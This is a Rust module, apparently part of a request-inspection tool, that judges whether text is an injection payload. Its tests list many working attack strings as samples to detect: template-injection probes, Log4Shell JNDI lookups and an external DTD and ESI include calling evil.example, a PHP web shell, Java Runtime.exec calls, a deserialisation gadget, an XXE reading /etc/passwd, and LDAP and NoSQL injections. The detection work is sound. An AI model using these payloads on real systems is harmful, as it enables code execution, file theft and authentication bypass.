//! Whether a text is an expression that a template engine, a language or a reader of objects would run.

mod document;
mod java;
mod object;
mod php;
mod script;
mod store;
mod template;

use super::Finding;

pub(super) use document::in_document;

/// The gravest reading of a text in small letters; `raw` is the same with its letters as they came.
pub(super) fn assess(text: &str, raw: &str) -> Option<Finding> {
    let readings = [
        (
            "template",
            "an expression that a template engine would run",
            template::assess(text),
        ),
        (
            "injection-java",
            "an expression that a Java program would run",
            java::assess(text),
        ),
        (
            "injection-php",
            "PHP that a server would run",
            php::assess(text),
        ),
        (
            "injection-generic",
            "code that a server would run",
            script::assess(text),
        ),
        (
            "deserialisation",
            "an object that would run code when it is read",
            object::serialised(text, raw),
        ),
        (
            "lfi",
            "an XML entity that reads elsewhere",
            document::entity(text),
        ),
        (
            "injection-generic",
            "a piece of a directory query",
            store::directory(text),
        ),
    ];
    readings
        .into_iter()
        .filter_map(|(class, what, weight)| {
            weight.map(|weight| Finding {
                class,
                weight,
                what,
            })
        })
        .max_by_key(|found| found.weight)
}

/// What stands between two marks, each time.
fn between<'t>(text: &'t str, open: &str, close: &str) -> Vec<&'t str> {
    text.match_indices(open)
        .take(40)
        .map(|(at, _)| {
            let inner = &text[at + open.len()..];
            let end = inner.find(close).unwrap_or_else(|| inner.len().min(400));
            inner.get(..end).unwrap_or(inner)
        })
        .collect()
}

/// `7*7` and the like: arithmetic that asks whether it is done.
fn arithmetic(inner: &str) -> bool {
    let plain = inner.trim().trim_matches(|c| matches!(c, '=' | '-' | ' '));
    let mut parts = plain.split(['*', '+', '-', '/']);
    let number = |part: &str| {
        let part = part.trim().trim_matches(['\'', '"', '(', ')']);
        !part.is_empty() && part.len() < 12 && part.bytes().all(|b| b.is_ascii_digit())
    };
    let (Some(a), Some(b)) = (parts.next(), parts.next()) else {
        return false;
    };
    plain.contains(['*', '+']) && number(a) && number(b)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::structure::Weight;

    fn strong(text: &str) -> bool {
        assess(&text.to_lowercase(), text).is_some_and(|found| found.weight == Weight::Strong)
    }

    #[test]
    fn expressions_that_would_run_are_found() {
        let mut wrong = Vec::new();
        for text in [
            "{{7*7}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}${::-n}di:ldap://evil.example/a}",
            "${${env:X:-j}ndi:rmi://x/a}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "system('id');",
            "require('child_process').exec('id')",
            "O:8:\"Customer\":1:{s:4:\"name\";s:1:\"x\";}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "*)(uid=*))(|(uid=*",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "user[$ne]",
            "json.password.$regex",
            "{\"login\":{\"$gt\":null}}",
            "db.users.insert({a:1});",
            "<!--#exec cmd=\"ls\" -->",
            "'+{233*233}+'",
            "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
            "admin)(&)",
            "x' or string-length(name(parent::*))>0 or 'x'='",
            "<!DOCTYPE x SYSTEM \"//evil.example/x\"><x/>",
            "${@print(md5(1))}",
            "{{['id']|filter('system')}}",
            "<esi:include src=\"http://evil.example/\"/>",
        ] {
            if !strong(text) {
                wrong.push(text);
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }

    #[test]
    fn templates_of_mails_and_prose_are_not() {
        let mut wrong = Vec::new();
        for text in [
            "尊敬的{{name}},您的订单{{order.id}}已发货",
            "Dear ${customer.name}, your balance is ${amount}",
            "#{tag} 50% off",
            "java.lang.NullPointerException\n\tat com.example.A.b(A.java:12)",
            "price = 7*7",
            "<?xml version=\"1.0\"?><a/>",
            "a:1:b",
            "call system (support) for help",
            "filters[price][$gte]",
            "{\"deleted\":{\"$ne\":true},\"tags\":{\"$in\":[1]}}",
            "query M($where: MemberFilter) { members(where: $where) { id } }",
            "java.lang.RuntimeException: x = 1",
            "#{T(java.time.LocalDate).now().dayOfYear}",
            "our code, which you asked about last week, is: <?php echo $_GET['a']; ?>",
        ] {
            if strong(text) {
                wrong.push(text);
            }
        }
        assert!(wrong.is_empty(), "{wrong:#?}");
    }
}
